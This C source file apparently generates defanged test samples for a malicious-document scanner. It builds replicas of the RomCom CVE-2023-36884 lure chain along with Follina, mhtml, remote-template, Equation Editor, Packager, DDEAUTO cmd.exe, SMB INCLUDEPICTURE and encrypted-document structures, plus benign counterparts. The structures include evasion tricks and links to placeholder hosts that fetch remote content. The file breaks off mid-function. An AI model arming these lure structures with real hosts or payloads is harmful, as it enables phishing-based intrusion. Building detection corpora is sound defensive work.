/*
 * gen_lures.c - the lure-chain samples (issue 3) and their benign
 * counterparts. See gen.h; samples/README.md says what each one is and
 * samples/expected.json what the scanner must report.
 *
 * The centre is a replica of the RomCom / Storm-0978 July 2023 lure
 * (CVE-2023-36884), built from the team's research notes (romcom-chain.md, §6):
 * a docx whose only active content is an altChunk RTF part holding two
 * auto-updating linked objects, an OLE2Link with a file moniker to an SMB
 * share and an Msxml2.SAXXMLReader.5.0 object with a URL moniker. Around it
 * sit the related techniques of §5, one per sample: remote templates,
 * Follina and CVE-2021-40444 relationships, Equation Editor, Packager, DDE,
 * encryption, and an OLE2Link nested in a packaged RTF.
 *
 * Everything is structure only and defanged: documentation addresses
 * (192.0.2.0/24, *.example), no script, no exploit bytes (the Equation
 * Native stream's MTEF data is zeroed), payloads of a few inert text bytes.
 * Each document says REPLICA-DEFANGED in its title (docProps dc:title, the
 * RTF \info \title, or the summary information of a .doc).
 */
#include <string.h>
#include <glib.h>
#include <zlib.h>
#include "gen.h"

#define LABEL "REPLICA-DEFANGED"
/* The inert "payload" of every Packager object. */
#define PAYLOAD_TEXT LABEL "\n"

/* The RomCom chain's two references (romcom-chain.md §1 stage 2, with the
 * documentation addresses of §6). */
#define ROMCOM_UNC "\\\\192.0.2.10\\share1\\MSHTML_C7\\file001.url"
#define ROMCOM_URL "http://192.0.2.20/MSHTML_C7/start.xml"
#define NESTED_URL "http://192.0.2.22/nested.hta"

/* Classes (MS-OLEDS 2.3.3 for StdOleLink; the others as registered). */
#define CLSID_STD_OLE_LINK "00000300-0000-0000-C000-000000000046"
#define CLSID_SAX_XML_READER_5 "88D969EC-8B8B-4C3D-859E-AF6CD158BE0F"
#define CLSID_EQUATION_3 "0002CE02-0000-0000-C000-000000000046"
#define CLSID_PACKAGE "0003000C-0000-0000-C000-000000000046"
#define CLSID_EXCEL_CHART_8 "00020821-0000-0000-C000-000000000046"

/* RTF object flags of the chain: an automatic link, refreshed on open,
 * whose result is a picture (\rsltpict). */
#define RTF_AUTOLINK_FLAGS "\\objautlink\\objupdate\\rsltpict"

/* ------------------------------------------------------------------ */
/* Shared pieces                                                       */
/* ------------------------------------------------------------------ */

static GBytes *bytes_of_string(char *s)
{
	return g_bytes_new_take(s, strlen(s));
}

/* A paragraph followed by an OLE object (VML shape + o:OLEObject) whose
 * relationship is rId10; ole_attrs gives Type, ProgID and the rest. */
static char *w_object_body(const char *text, const char *ole_attrs)
{
	char *para = w_para(text);
	char *body = g_strdup_printf("%s"
		"<w:p><w:r><w:object w:dxaOrig=\"1440\" w:dyaOrig=\"960\">"
		"<v:shape id=\"_x0000_i1025\" type=\"#_x0000_t75\" style=\"width:72pt;height:48pt\""
		" o:ole=\"\"/>"
		"<o:OLEObject %s ShapeID=\"_x0000_i1025\" ObjectID=\"_1700000003\" r:id=\"rId10\"/>"
		"</w:object></w:r></w:p>", para, ole_attrs);
	g_free(para);
	return body;
}

/* A docx holding an embedded OLE object word/embeddings/oleObject1.bin of
 * ProgID prog_id shown as an icon. */
static GBytes *embedded_object_docx(const char *title, const char *text, const char *prog_id,
				    GBytes *object)
{
	char *attrs = g_strdup_printf("Type=\"Embed\" ProgID=\"%s\" DrawAspect=\"Icon\"", prog_id);
	char *body = w_object_body(text, attrs);
	pkg *p = docx_new(title, body);

	pkg_default(p, "bin", CT_OLE_OBJECT);
	pkg_rel(p, "word/document.xml", "rId10", RT_OLE_OBJECT, "embeddings/oleObject1.bin", false);
	pkg_part_bytes(p, "word/embeddings/oleObject1.bin", object, NULL);
	g_free(attrs);
	g_free(body);
	return pkg_finish(p);
}

/* A docx whose body is a paragraph then <w:altChunk r:id="rIdAF"/> (before
 * the section properties), importing part (chunk) through an aFChunk
 * relationship to target. The chunk's content type is ct: a Default for
 * default_ext when it is not NULL, else an Override for the part. */
static GBytes *altchunk_docx(const char *title, const char *text, const char *part,
			     const char *target, GBytes *chunk, const char *ct,
			     const char *default_ext)
{
	char *para = w_para(text);
	char *body = g_strconcat(para, "<w:altChunk r:id=\"rIdAF\"/>", NULL);
	pkg *p = docx_new(title, body);

	if (default_ext != NULL)
		pkg_default(p, default_ext, ct);
	pkg_rel(p, "word/document.xml", "rIdAF", RT_AFCHUNK, target, false);
	pkg_part_bytes(p, part, chunk, default_ext != NULL ? NULL : ct);
	g_free(para);
	g_free(body);
	return pkg_finish(p);
}

/* An OLE1 embedded object as RTF: {\object flags {\*\objclass cls}
 * {\*\objdata hex}{\result}}; obfuscation_seed 0 writes plain hex. */
static char *rtf_ole1_object(const char *flags, const char *cls, GBytes *native,
			     guint32 obfuscation_seed, const char *result_text)
{
	GBytes *ole1 = ole1_embedded(cls, native);
	char *hex = obfuscation_seed != 0 ? rtf_hex_obfuscated(ole1, obfuscation_seed)
					  : rtf_hex(ole1);
	char *obj = rtf_object(flags, cls, hex, result_text);
	g_free(hex);
	g_bytes_unref(ole1);
	return obj;
}

/* A 1x1 PNG (one grey RGB pixel): signature, IHDR, IDAT (a zlib stream
 * with one stored deflate block, so no compressor is involved), IEND. */
static GBytes *png_tiny(void)
{
	static const guint8 signature[8] = {0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'};
	/* IHDR: width 1, height 1, bit depth 8, colour type 2 (RGB), deflate,
	 * adaptive filtering, no interlace. */
	static const guint8 ihdr[13] = {0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0, 0, 0};
	/* One scanline: filter type 0, then R, G, B. */
	static const guint8 scanline[4] = {0x00, 0x80, 0x80, 0x80};
	GByteArray *idat = g_byte_array_new();
	GByteArray *b = g_byte_array_new();
	guint8 be[4];

	/* RFC 1950 header (CM 8, CINFO 7, FCHECK), RFC 1951 stored block
	 * (BFINAL 1, BTYPE 00, LEN, NLEN), data, Adler-32 (big-endian). */
	static const guint8 zhdr[3] = {0x78, 0x01, 0x01};
	put_bytes(idat, zhdr, sizeof(zhdr));
	put_le16(idat, sizeof(scanline));
	put_le16(idat, (guint16)~sizeof(scanline));
	put_bytes(idat, scanline, sizeof(scanline));
	guint32 adler = (guint32)adler32(adler32(0L, Z_NULL, 0), scanline, sizeof(scanline));
	be[0] = adler >> 24;
	be[1] = (adler >> 16) & 0xff;
	be[2] = (adler >> 8) & 0xff;
	be[3] = adler & 0xff;
	put_bytes(idat, be, 4);

	put_bytes(b, signature, sizeof(signature));
	const struct {
		const char *type;
		const guint8 *data;
		guint32 len;
	} chunks[] = {
		{"IHDR", ihdr, sizeof(ihdr)},
		{"IDAT", idat->data, idat->len},
		{"IEND", NULL, 0},
	};
	for (size_t i = 0; i < G_N_ELEMENTS(chunks); i++) {
		guint32 n = chunks[i].len;
		be[0] = n >> 24;
		be[1] = (n >> 16) & 0xff;
		be[2] = (n >> 8) & 0xff;
		be[3] = n & 0xff;
		put_bytes(b, be, 4);
		put_bytes(b, chunks[i].type, 4);
		if (n > 0)
			put_bytes(b, chunks[i].data, n);
		uLong crc = crc32(0L, Z_NULL, 0);
		crc = crc32(crc, (const Bytef *)chunks[i].type, 4);
		if (n > 0)
			crc = crc32(crc, chunks[i].data, n);
		be[0] = (guint8)(crc >> 24);
		be[1] = (guint8)((crc >> 16) & 0xff);
		be[2] = (guint8)((crc >> 8) & 0xff);
		be[3] = (guint8)(crc & 0xff);
		put_bytes(b, be, 4);
	}
	g_byte_array_free(idat, TRUE);
	return byte_array_to_bytes(b);
}

/* ------------------------------------------------------------------ */
/* The RomCom replica (CVE-2023-36884)                                 */
/* ------------------------------------------------------------------ */

/* Stage 2: the afchunk.rtf of romcom-chain.md §6. object[0] is the
 * OLE2Link (file moniker to the share), object[1] the
 * Msxml2.SAXXMLReader.5.0 object (URL moniker); both embedded OLE1 objects
 * whose native data is a compound file with a linked "\x01Ole". With
 * obfuscated, the same objects are written the way lures hide them (header
 * "{\rtx", junk inside \objdata); they decode to the same bytes. */
static GBytes *romcom_rtf(bool obfuscated)
{
	GBytes *file_mk = file_moniker(ROMCOM_UNC);
	GBytes *url_mk = url_moniker(ROMCOM_URL);
	GBytes *link = link_object_cfb(CLSID_STD_OLE_LINK, OLEUPDATE_ALWAYS, file_mk);
	GBytes *sax = link_object_cfb(CLSID_SAX_XML_READER_5, OLEUPDATE_ALWAYS, url_mk);
	char *obj0 = rtf_ole1_object(RTF_AUTOLINK_FLAGS, "OLE2Link", link,
				     obfuscated ? 0x0BF5CA7Eu : 0, LABEL);
	char *obj1 = rtf_ole1_object(RTF_AUTOLINK_FLAGS, "Msxml2.SAXXMLReader.5.0", sax,
				     obfuscated ? 0x5A3C0DE5u : 0, LABEL);
	char *body = g_strconcat(
		"Talking points for UWC's #UkraineInNATO campaign. " LABEL ": a synthetic replica"
		" of the lure's structure; the links point at documentation addresses.\\par\r\n",
		obj0, obj1, NULL);
	char *doc = rtf_document(obfuscated ? "\\rtx" : "\\rtf1", LABEL " RomCom stage 2", body);

	g_bytes_unref(file_mk);
	g_bytes_unref(url_mk);
	g_bytes_unref(link);
	g_bytes_unref(sax);
	g_free(obj0);
	g_free(obj1);
	g_free(body);
	return bytes_of_string(doc);
}

#define ROMCOM_TEXT "Overview of UWC's #UkraineInNATO campaign. " LABEL ": synthetic replica."

GBytes *make_romcom_replica(void)
{
	GBytes *rtf = romcom_rtf(false);
	GBytes *b = altchunk_docx(LABEL " Overview of UWCs UkraineInNATO campaign", ROMCOM_TEXT,
				  "word/afchunk.rtf", "afchunk.rtf", rtf, CT_RTF, "rtf");
	g_bytes_unref(rtf);
	return b;
}

/* The same chain under another name (an Override, not a Default, gives the
 * content type; the extension is upper case) with the RTF obfuscated. */
GBytes *make_romcom_obfuscated(void)
{
	GBytes *rtf = romcom_rtf(true);
	GBytes *b = altchunk_docx(LABEL " RomCom chain, obfuscated RTF", ROMCOM_TEXT,
				  "word/chunk7.RTF", "chunk7.RTF", rtf, CT_RTF, NULL);
	g_bytes_unref(rtf);
	return b;
}

/* ------------------------------------------------------------------ */
/* Remote templates (T1221), Follina, CVE-2021-40444                   */
/* ------------------------------------------------------------------ */

/* A docx whose settings attach the template at target (relationship rId1
 * of word/settings.xml, External when external). */
static GBytes *template_docx(const char *title, const char *target, bool external)
{
	static const char settings[] = XML_DECL
		"<w:settings" W_NS ">"
		"<w:attachedTemplate r:id=\"rId1\"/>"
		"<w:defaultTabStop w:val=\"720\"/>"
		"<w:characterSpacingControl w:val=\"doNotCompress\"/>"
		"<w:compat><w:compatSetting w:name=\"compatibilityMode\""
		" w:uri=\"http://schemas.microsoft.com/office/word\" w:val=\"15\"/></w:compat>"
		"</w:settings>";
	pkg *p = docx_new_text(title, "lurescan synthetic sample: a document with an attached"
				      " template.");

	pkg_part_str(p, "word/settings.xml", settings, NULL);
	pkg_rel(p, "word/settings.xml", "rId1", RT_ATTACHED_TEMPLATE, target, external);
	return pkg_finish(p);
}

GBytes *make_template_http(void)
{
	return template_docx(LABEL " remote template over http",
			     "http://192.0.2.30/templates/report.dotm", true);
}

GBytes *make_template_unc(void)
{
	return template_docx(LABEL " remote template over SMB", "\\\\192.0.2.10\\t\\x.dotm", true);
}

/* Mixed-case scheme and a percent-encoded path: the normalised target is
 * http://192.0.2.30/templates/r.dotm. */
GBytes *make_template_mixedcase(void)
{
	return template_docx(LABEL " remote template, mixed case and percent-encoded",
			     "HtTp://192.0.2.30/%74emplates/r.dotm", true);
}

/* Benign: the template named by a relative (internal) target. */
GBytes *make_template_local(void)
{
	return template_docx("lurescan benign sample: local template", "Normal.dotm", false);
}

/* Benign: what Word writes for a template attached from the local disk. */
GBytes *make_template_file(void)
{
	return template_docx("lurescan benign sample: template on the local disk",
			     "file:///C:\\Users\\user\\AppData\\Roaming\\Microsoft\\Templates"
			     "\\Normal.dotm", true);
}

/* A docx with a linked OLE object (htmlfile, updated on call) whose
 * relationship rId10 is External to target. */
static GBytes *ole_link_docx(const char *title, const char *text, const char *target)
{
	char *body = w_object_body(text, "Type=\"Link\" ProgID=\"htmlfile\" DrawAspect=\"Content\""
					 " UpdateMode=\"OnCall\"");
	pkg *p = docx_new(title, body);

	pkg_rel(p, "word/document.xml", "rId10", RT_OLE_OBJECT, target, true);
	g_free(body);
	return pkg_finish(p);
}

/* CVE-2022-30190: an external oleObject to an HTML page, target ending
 * in '!'. */
GBytes *make_follina(void)
{
	return ole_link_docx(LABEL " Follina-shaped link",
			     "lurescan synthetic sample: an OLE link to an HTML page (Follina shape).",
			     "http://192.0.2.20/x.html!");
}

/* CVE-2021-40444: an external oleObject through mhtml:...!x-usc:. */
GBytes *make_mhtml(void)
{
	return ole_link_docx(LABEL " mhtml-shaped link",
			     "lurescan synthetic sample: an OLE link through mhtml: (CVE-2021-40444"
			     " shape).",
			     "mhtml:http://192.0.2.21/x.html!x-usc:http://192.0.2.21/x.html");
}

/* ------------------------------------------------------------------ */
/* Equation Editor (CVE-2017-11882 / CVE-2018-0802 shape)              */
/* ------------------------------------------------------------------ */

/* EQNOLEFILEHDR at the start of "Equation Native" (public analyses of
 * EQNEDT32): cbHdr u16 0x1C, version u32 0x00020000, cf u16, cbObject u32,
 * four reserved u32. */
#define EQNOLEFILEHDR_SIZE 0x1Cu
#define EQNOLEFILEHDR_VERSION 0x00020000u
#define EQNOLEFILEHDR_CF 0xC2D3u /* a registered clipboard format; any value */
/* The MTEF data that follows: zeroed (no records, no font tag, no
 * exploit bytes). */
#define MTEF_ZEROED_SIZE 64u

static GBytes *equation_cfb(void)
{
	cfb *c = cfb_new(CLSID_EQUATION_3);
	GBytes *co = compobj_stream(CLSID_EQUATION_3, "Microsoft Equation 3.0", "DS Equation",
				    "Equation.3");
	GBytes *ole = olestream_embedded();
	GByteArray *eq = g_byte_array_new();
	guint8 mtef[MTEF_ZEROED_SIZE] = {0};

	put_le16(eq, EQNOLEFILEHDR_SIZE);
	put_le32(eq, EQNOLEFILEHDR_VERSION);
	put_le16(eq, EQNOLEFILEHDR_CF);
	put_le32(eq, MTEF_ZEROED_SIZE);
	for (int i = 0; i < 4; i++)
		put_le32(eq, 0);
	if (eq->len != EQNOLEFILEHDR_SIZE)
		die("EQNOLEFILEHDR is %u bytes", eq->len);
	put_bytes(eq, mtef, sizeof(mtef));

	cfb_stream_bytes(c, "\001CompObj", co);
	cfb_stream_bytes(c, "\001Ole", ole);
	cfb_stream(c, "Equation Native", eq->data, eq->len);
	g_bytes_unref(co);
	g_bytes_unref(ole);
	g_byte_array_free(eq, TRUE);
	return cfb_finish(c);
}

GBytes *make_equation_rtf(void)
{
	GBytes *eq = equation_cfb();
	char *obj = rtf_ole1_object("\\objemb\\objupdate", "Equation.3", eq, 0, LABEL);
	char *body = g_strconcat(LABEL ": an Equation Editor 3.0 object with zeroed MTEF data.\\par\r\n",
				 obj, NULL);
	char *doc = rtf_document("\\rtf1", LABEL " Equation.3 object", body);

	g_bytes_unref(eq);
	g_free(obj);
	g_free(body);
	return bytes_of_string(doc);
}

/* ------------------------------------------------------------------ */
/* Packager (T1204.002)                                                */
/* ------------------------------------------------------------------ */

#define PACKAGE_LABEL "invoice.pdf.js"
#define PACKAGE_SOURCE "C:\\Users\\Public\\invoice.pdf.js"
#define PACKAGE_TEMP "C:\\Users\\Public\\AppData\\Local\\Temp\\invoice.pdf.js"

static GBytes *invoice_package(void)
{
	return packager_native(PACKAGE_LABEL, PACKAGE_SOURCE, PACKAGE_TEMP, PAYLOAD_TEXT,
			       strlen(PAYLOAD_TEXT));
}

/* The OLE object Office stores for a Packager object in OOXML: root CLSID
 * Package, "\x01Ole10Native" holding native, and "\x01CompObj". */
static GBytes *package_object_cfb(GBytes *native)
{
	cfb *c = cfb_new(CLSID_PACKAGE);
	GBytes *n = ole10native_stream(native);
	GBytes *co = compobj_stream(CLSID_PACKAGE, "OLE Package", "Package", "Package");

	cfb_stream_bytes(c, "\001Ole10Native", n);
	cfb_stream_bytes(c, "\001CompObj", co);
	g_bytes_unref(n);
	g_bytes_unref(co);
	return cfb_finish(c);
}

GBytes *make_package_rtf(void)
{
	GBytes *native = invoice_package();
	char *obj = rtf_ole1_object("\\objemb", "Package", native, 0, PACKAGE_LABEL);
	char *body = g_strconcat(LABEL ": an embedded file, double extension.\\par\r\n", obj, NULL);
	char *doc = rtf_document("\\rtf1", LABEL " Packager object", body);

	g_bytes_unref(native);
	g_free(obj);
	g_free(body);
	return bytes_of_string(doc);
}

GBytes *make_package_docx(void)
{
	GBytes *native = invoice_package();
	GBytes *obj = package_object_cfb(native);
	GBytes *b = embedded_object_docx(LABEL " Packager object",
					 "lurescan synthetic sample: an embedded file, double"
					 " extension.", "Package", obj);
	g_bytes_unref(native);
	g_bytes_unref(obj);
	return b;
}

/* ------------------------------------------------------------------ */
/* DDE (T1559.002)                                                     */
/* ------------------------------------------------------------------ */

/* The field instruction, as Word stores it (backslashes doubled in field
 * codes). It starts cmd.exe, which only echoes the label. */
#define DDE_COMMAND "c:\\\\windows\\\\system32\\\\cmd.exe \"/k echo " LABEL "\""

/* The instruction split over runs, "DD" and "EAUTO ...", as lures do to
 * dodge byte signatures. */
GBytes *make_dde_docx(void)
{
	char *cmd = g_markup_escape_text("EAUTO " DDE_COMMAND " ", -1);
	char *para = w_para("lurescan synthetic sample: a DDEAUTO field split over runs.");
	char *body = g_strdup_printf("%s<w:p>"
		"<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
		"<w:r><w:instrText xml:space=\"preserve\"> DD</w:instrText></w:r>"
		"<w:r><w:instrText xml:space=\"preserve\">%s</w:instrText></w:r>"
		"<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>"
		"<w:r><w:t>" LABEL "</w:t></w:r>"
		"<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
		"</w:p>", para, cmd);
	GBytes *b = pkg_finish(docx_new(LABEL " DDEAUTO field", body));

	g_free(cmd);
	g_free(para);
	g_free(body);
	return b;
}

/* An INCLUDEPICTURE field to a share, split over runs: opening the
 * document makes Word authenticate to the host (T1187). The benign twin
 * includes a picture over https. */
static GBytes *include_picture_docx(const char *title, const char *target_escaped)
{
	char *tail = g_markup_printf_escaped("PICTURE \"%s\" \\d ", target_escaped);
	char *para = w_para("lurescan synthetic sample: an INCLUDEPICTURE field split over runs.");
	char *body = g_strdup_printf("%s<w:p>"
		"<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
		"<w:r><w:instrText xml:space=\"preserve\"> INCLUDE</w:instrText></w:r>"
		"<w:r><w:instrText xml:space=\"preserve\">%s</w:instrText></w:r>"
		"<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>"
		"<w:r><w:t>" LABEL "</w:t></w:r>"
		"<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
		"</w:p>", para, tail);
	GBytes *b = pkg_finish(docx_new(title, body));

	g_free(tail);
	g_free(para);
	g_free(body);
	return b;
}

GBytes *make_include_unc_docx(void)
{
	/* Word doubles the backslashes of a path inside a field code. */
	return include_picture_docx(LABEL " INCLUDEPICTURE from a share",
				    "\\\\\\\\192.0.2.10\\\\share1\\\\logo.png");
}

GBytes *make_include_https_docx(void)
{
	return include_picture_docx("lurescan benign sample: INCLUDEPICTURE over https",
				    "https://www.example/logo.png");
}

/* MS-DOC 2.8.25: field begin, separator, end characters in the text. */
#define DOC_FIELD_BEGIN "\x13"
#define DOC_FIELD_SEPARATE "\x14"
#define DOC_FIELD_END "\x15"

GBytes *make_dde_doc(void)
{
	static const char field[] = DOC_FIELD_BEGIN " DDEAUTO " DDE_COMMAND " "
		DOC_FIELD_SEPARATE LABEL DOC_FIELD_END " ";
	return cfb_finish(word97_cfb_with("lurescan synthetic sample: a Word 97 document with a"
					  " DDEAUTO field. ", LABEL " DDEAUTO field",
					  field, sizeof(field) - 1));
}

GBytes *make_dde_rtf(void)
{
	/* RTF escapes each backslash of the field code once more. */
	char **parts = g_strsplit(DDE_COMMAND, "\\", -1);
	char *cmd = g_strjoinv("\\\\", parts);
	char *body = g_strdup_printf(LABEL ": a DDEAUTO field.\\par\r\n"
				     "{\\field{\\*\\fldinst DDEAUTO %s}{\\fldrslt " LABEL "}}\\par\r\n",
				     cmd);
	char *doc = rtf_document("\\rtf1", LABEL " DDEAUTO field", body);

	g_strfreev(parts);
	g_free(cmd);
	g_free(body);
	return bytes_of_string(doc);
}

/* ------------------------------------------------------------------ */
/* Encryption (MS-OFFCRYPTO)                                           */
/* ------------------------------------------------------------------ */

/* 2.3.4.10: agile encryption's EncryptionVersionInfo (4.4) and Reserved. */
#define AGILE_VERSION_MAJOR 4u
#define AGILE_VERSION_MINOR 4u
#define AGILE_RESERVED 0x00000040u
/* The size EncryptedPackage says the package had; the data is padded to
 * the 16-byte AES block. */
#define ENCRYPTED_PACKAGE_SIZE 6150u
#define AES_BLOCK 16u

/* 2.1.2 UNICODE-LP-P4: u32 byte count, UTF-16LE characters, padding to 4. */
static void put_unicode_lp_p4(GByteArray *b, const char *s)
{
	guint start = b->len;
	put_le32(b, (guint32)strlen(s) * 2);
	for (const char *p = s; *p != '\0'; p++)
		put_le16(b, (guint8)*p);
	pad4(b, start);
}

/* 2.1.5 Version: u16 major, u16 minor. */
static void put_version(GByteArray *b)
{
	put_le16(b, 1);
	put_le16(b, 0);
}

/* Base64 of n deterministic pseudo-random bytes. */
static char *b64_pseudo(size_t n, guint32 seed)
{
	guint8 *buf = g_malloc(n);
	fill_pseudo(buf, n, seed);
	char *s = g_base64_encode(buf, n);
	g_free(buf);
	return s;
}

/* The \x06DataSpaces storage of an encrypted package (2.3.1, 2.3.2, 2.3.3,
 * 2.1.8, 2.2.4): version, map, definition and transform. */
static void add_dataspaces(cfb *c)
{
	GByteArray *b;

	/* DataSpaceVersionInfo. */
	b = g_byte_array_new();
	put_unicode_lp_p4(b, "Microsoft.Container.DataSpaces");
	put_version(b); /* ReaderVersion */
	put_version(b); /* UpdaterVersion */
	put_version(b); /* WriterVersion */
	cfb_stream(c, "\006DataSpaces/Version", b->data, b->len);
	g_byte_array_free(b, TRUE);

	/* DataSpaceMap: one entry mapping EncryptedPackage to the data space. */
	GByteArray *entry = g_byte_array_new();
	put_le32(entry, 1); /* ReferenceComponentCount */
	put_le32(entry, 0); /* ReferenceComponentType: stream */
	put_unicode_lp_p4(entry, "EncryptedPackage");
	put_unicode_lp_p4(entry, "StrongEncryptionDataSpace");
	b = g_byte_array_new();
	put_le32(b, 8); /* HeaderLength */
	put_le32(b, 1); /* EntryCount */
	put_le32(b, 4 + entry->len); /* DataSpaceMapEntry.Length */
	put_bytes(b, entry->data, entry->len);
	cfb_stream(c, "\006DataSpaces/DataSpaceMap", b->data, b->len);
	g_byte_array_free(entry, TRUE);
	g_byte_array_free(b, TRUE);

	/* DataSpaceDefinition: one transform. */
	b = g_byte_array_new();
	put_le32(b, 8); /* HeaderLength */
	put_le32(b, 1); /* TransformReferenceCount */
	put_unicode_lp_p4(b, "StrongEncryptionTransform");
	cfb_stream(c, "\006DataSpaces/DataSpaceInfo/StrongEncryptionDataSpace", b->data, b->len);
	g_byte_array_free(b, TRUE);

	/* TransformInfoHeader + EncryptionTransformInfo. */
	GByteArray *id = g_byte_array_new();
	put_unicode_lp_p4(id, "{FF9A3F03-56EF-4613-BDD5-5A41C1D07246}");
	b = g_byte_array_new();
	put_le32(b, 8 + id->len); /* TransformLength: the bytes before TransformName */
	put_le32(b, 1);           /* TransformType */
	put_bytes(b, id->data, id->len);
	put_unicode_lp_p4(b, "Microsoft.Container.EncryptionTransform");
	put_version(b);
	put_version(b);
	put_version(b);
	put_le32(b, 0); /* EncryptionName: empty UTF-8-LP-P4 */
	put_le32(b, 0); /* EncryptionBlockSize */
	put_le32(b, 0); /* CipherMode */
	put_le32(b, 4); /* Reserved */
	cfb_stream(c, "\006DataSpaces/TransformInfo/StrongEncryptionTransform/\006Primary",
		   b->data, b->len);
	g_byte_array_free(id, TRUE);
	g_byte_array_free(b, TRUE);
}

/* An agile-encrypted OOXML document (what Office writes for a docx with a
 * password): a compound file, not a ZIP. The key material is
 * deterministic filler; nothing decrypts. */
GBytes *make_encrypted(void)
{
	cfb *c = cfb_new(NULL);
	char *salt = b64_pseudo(16, 0xA61E0001u);
	char *hmac_key = b64_pseudo(64, 0xA61E0002u);
	char *hmac_value = b64_pseudo(64, 0xA61E0003u);
	char *key_salt = b64_pseudo(16, 0xA61E0004u);
	char *verifier_input = b64_pseudo(16, 0xA61E0005u);
	char *verifier_hash = b64_pseudo(64, 0xA61E0006u);
	char *key_value = b64_pseudo(32, 0xA61E0007u);
	char *xml = g_strdup_printf(XML_DECL
		"<encryption xmlns=\"http://schemas.microsoft.com/office/2006/encryption\""
		" xmlns:p=\"http://schemas.microsoft.com/office/2006/keyEncryptor/password\">"
		"<keyData saltSize=\"16\" blockSize=\"16\" keyBits=\"256\" hashSize=\"64\""
		" cipherAlgorithm=\"AES\" cipherChaining=\"ChainingModeCBC\" hashAlgorithm=\"SHA512\""
		" saltValue=\"%s\"/>"
		"<dataIntegrity encryptedHmacKey=\"%s\" encryptedHmacValue=\"%s\"/>"
		"<keyEncryptors><keyEncryptor"
		" uri=\"http://schemas.microsoft.com/office/2006/keyEncryptor/password\">"
		"<p:encryptedKey spinCount=\"100000\" saltSize=\"16\" blockSize=\"16\" keyBits=\"256\""
		" hashSize=\"64\" cipherAlgorithm=\"AES\" cipherChaining=\"ChainingModeCBC\""
		" hashAlgorithm=\"SHA512\" saltValue=\"%s\" encryptedVerifierHashInput=\"%s\""
		" encryptedVerifierHashValue=\"%s\" encryptedKeyValue=\"%s\"/>"
		"</keyEncryptor></keyEncryptors></encryption>",
		salt, hmac_key, hmac_value, key_salt, verifier_input, verifier_hash, key_value);
	GByteArray *info = g_byte_array_new();
	GByteArray *package = g_byte_array_new();
	gsize padded = (ENCRYPTED_PACKAGE_SIZE + AES_BLOCK - 1) / AES_BLOCK * AES_BLOCK;
	guint8 *data = g_malloc(padded);

	put_le16(info, AGILE_VERSION_MAJOR);
	put_le16(info, AGILE_VERSION_MINOR);
	put_le32(info, AGILE_RESERVED);
	put_bytes(info, xml, strlen(xml));
	put_le64(package, ENCRYPTED_PACKAGE_SIZE); /* StreamSize */
	fill_pseudo(data, padded, 0xE7C9A3B1u);
	put_bytes(package, data, padded);

	add_dataspaces(c);
	cfb_stream(c, "EncryptedPackage", package->data, package->len);
	cfb_stream(c, "EncryptionInfo", info->data, info->len);

	g_free(salt);
	g_free(hmac_key);
	g_free(hmac_value);
	g_free(key_salt);
	g_free(verifier_input);
	g_free(verifier_hash);
	g_free(key_value);
	g_free(xml);
	g_free(data);
	g_byte_array_free(info, TRUE);
	g_byte_array_free(package, TRUE);
	return cfb_finish(c);
}

/* ------------------------------------------------------------------ */
/* An OLE2Link three documents deep                                    */
/* ------------------------------------------------------------------ */

/* docx > word/embeddings/oleObject1.bin (Packager CFB) > \x01Ole10Native
 * > nested.rtf (the packaged file) > object[0] (OLE1) > ole1:OLE2Link
 * (CFB) > \x01Ole with a URL moniker to NESTED_URL. */
GBytes *make_nested_ole2link(void)
{
	GBytes *mk = url_moniker(NESTED_URL);
	GBytes *link = link_object_cfb(CLSID_STD_OLE_LINK, OLEUPDATE_ALWAYS, mk);
	char *obj = rtf_ole1_object(RTF_AUTOLINK_FLAGS, "OLE2Link", link, 0, LABEL);
	char *body = g_strconcat(LABEL ": the innermost document of a nested chain.\\par\r\n",
				 obj, NULL);
	char *rtf = rtf_document("\\rtf1", LABEL " nested OLE2Link", body);
	GBytes *native = packager_native("nested.rtf", "C:\\Users\\Public\\nested.rtf",
					 "C:\\Users\\Public\\AppData\\Local\\Temp\\nested.rtf",
					 rtf, strlen(rtf));
	GBytes *object = package_object_cfb(native);
	GBytes *b = embedded_object_docx(LABEL " OLE2Link nested in a packaged RTF",
					 "lurescan synthetic sample: a packaged document holding"
					 " an OLE link.", "Package", object);

	g_bytes_unref(mk);
	g_bytes_unref(link);
	g_free(obj);
	g_free(body);
	g_free(rtf);
	g_bytes_unref(native);
	g_bytes_unref(object);
	return b;
}

/* ------------------------------------------------------------------ */
/* Benign counterparts                                                 */
/* ------------------------------------------------------------------ */

/* An ordinary external hyperlink (only followed on a click). */
GBytes *make_hyperlink_docx(void)
{
	pkg *p = docx_new("lurescan benign sample: hyperlink",
		"<w:p><w:r><w:t xml:space=\"preserve\">lurescan benign sample: see </w:t></w:r>"
		"<w:hyperlink r:id=\"rId10\" w:history=\"1\"><w:r><w:t>www.example</w:t></w:r>"
		"</w:hyperlink></w:p>");

	pkg_rel(p, "word/document.xml", "rId10", RT_HYPERLINK, "https://www.example/", true);
	return pkg_finish(p);
}

#define EMU_PER_PIXEL 9525u

GBytes *make_image_docx(void)
{
	char *body = g_strdup_printf(
		"<w:p><w:r><w:t>lurescan benign sample: a picture.</w:t></w:r></w:p>"
		"<w:p><w:r><w:drawing>"
		"<wp:inline distT=\"0\" distB=\"0\" distL=\"0\" distR=\"0\""
		" xmlns:wp=\"http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing\">"
		"<wp:extent cx=\"%u\" cy=\"%u\"/><wp:docPr id=\"1\" name=\"Picture 1\"/>"
		"<a:graphic xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\">"
		"<a:graphicData uri=\"http://schemas.openxmlformats.org/drawingml/2006/picture\">"
		"<pic:pic xmlns:pic=\"http://schemas.openxmlformats.org/drawingml/2006/picture\">"
		"<pic:nvPicPr><pic:cNvPr id=\"0\" name=\"image1.png\"/><pic:cNvPicPr/></pic:nvPicPr>"
		"<pic:blipFill><a:blip r:embed=\"rId10\"/><a:stretch><a:fillRect/></a:stretch>"
		"</pic:blipFill>"
		"<pic:spPr><a:xfrm><a:off x=\"0\" y=\"0\"/><a:ext cx=\"%u\" cy=\"%u\"/></a:xfrm>"
